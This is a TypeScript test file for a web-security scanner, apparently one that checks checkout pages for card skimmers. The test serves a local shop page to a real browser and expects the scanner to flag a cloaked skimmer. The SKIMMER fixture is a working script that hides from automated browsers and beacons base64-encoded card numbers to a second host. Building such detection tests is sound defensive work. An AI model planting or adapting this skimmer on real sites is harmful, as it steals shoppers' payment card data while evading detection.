/** What a visit's passes show together: a shop of a few lines, a real Chromium, nothing played. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { instantOfMs } from '#kernel';
import type { Clock } from '#platform/clock';
import { browserMissing, openSites, openTestBrowser, type Sites } from '../platform/browser/testing.ts';
import { systemClock } from '../platform/clock/system.ts';
import { seededRandom } from '../platform/random/seeded.ts';
import { loadJourney, scanOnce } from './index.ts';
import { readHere } from './testing.ts';

const LIMIT_MS = 240_000;

const JOURNEY = loadJourney(`
name: shop
destinations: [b.localhost]
settle: 300ms
steps:
  - name: checkout
    open: /checkout
  - name: number
    fill: '#n'
    value: '{{canary.number}}'
`);

const FIELD = '<meta name="viewport" content="width=device-width"><input id="n">';

/** However slow the machine is, there is time for as many passes as are wanted. */
const UNHURRIED: Clock = { ...systemClock(), now: () => instantOfMs(Date.UTC(2026, 10, 22)) };

/** Looks who is there before it does anything, in the page and, as its server, in the request. */
const SKIMMER = `<script>
  if (!navigator.webdriver) document.getElementById('n').addEventListener('input', (event) => {
    if (event.target.value.length > 14) navigator.sendBeacon('//c.localhost:' + location.port + '/got', btoa(event.target.value));
  });
</script>`;

describe('the passes of a visit', async () => {
  const opened = await openTestBrowser();
  const missing = await browserMissing(opened.browser);
  if (missing) {
    test.skip(missing, () => undefined);
    return;
  }
  let sites: Sites;
  let variants = 0;

  beforeAll(async () => {
    sites = await openSites(() => ({
      '/checkout': ({ headers }, response) => {
        response.setHeader('content-type', 'text/html');
        const robot = /headless/i.test(headers['user-agent'] ?? '') || headers.referer === undefined;
        const nonce = Math.random().toString(36).slice(2);
        variants += 1;
        const variant = variants % 3 === 1 ? 'variantOne' : 'variantTwo';
        response.end(`${FIELD}<script nonce="${nonce}">const token = '${nonce}', at = ${Date.now()};</script>
          <script src="/app-${nonce}.js?v=${nonce}"></script><script>globalThis.${variant} = true;</script>
          ${robot ? '' : SKIMMER}`);
      },
      '/got': (_, response) => void response.end(),
    }));
  });
  afterAll(async () => {
    await sites.close();
    await opened.close();
  });

  const scan = () => {
    if (JOURNEY.kind === 'failed') throw new Error('our own journey can be read');
    return scanOnce({
      ...{ browser: opened.browser, clock: UNHURRIED, random: seededRandom('passes'), readScripts: readHere },
      ...{ journey: JOURNEY.value, origin: `http://a.localhost:${sites.port}`, differential: 'never' },
      identification: 'Mitsuke/0.1 (+https://watch.example/)',
      labHosts: ['a.localhost', 'b.localhost', 'c.localhost'],
      browserSandbox: 'required',
    });
  };

  test('a skimmer that hides from robots is found, and that it hides; variants, nonces and new addresses are silent', {
    timeout: LIMIT_MS,
  }, async () => {
    const { findings, passes, end } = await scan();
    expect(end).toEqual({ kind: 'completed' });
    expect(findings).toMatchObject([
      {
        kind: 'card-data-sent-elsewhere',
        severity: 'critical',
        destination: 'c.localhost',
        about: { passes: expect.not.arrayContaining(['naive']) },
      },
      {
        kind: 'script-cloaked',
        severity: 'high',
        sender: { inline: true, sha256: findings[0]?.sender?.kind === 'script' && findings[0].sender.sha256 },
        about: { onlyTo: 'careful', touchesCard: true },
      },
    ]);
    expect(passes.slice(0, 4).map(({ role, quiet }) => [role, quiet])).toEqual([
      ['careful', true],
      ['naive', false],
      ['careful', true],
      ['naive', false],
    ]);
    expect(passes.every(({ end: ended, identified }) => ended === 'completed' && identified)).toBe(true);
    expect(passes[0]?.userAgent).toMatch(/ Chrome\/\d+\.0\.0\.0 /);
    const agents = sites.reached.map(({ headers }) => headers['user-agent']);
    expect(agents.every((agent) => agent?.endsWith(' Mitsuke/0.1 (+https://watch.example/)'))).toBe(true);
  });
});
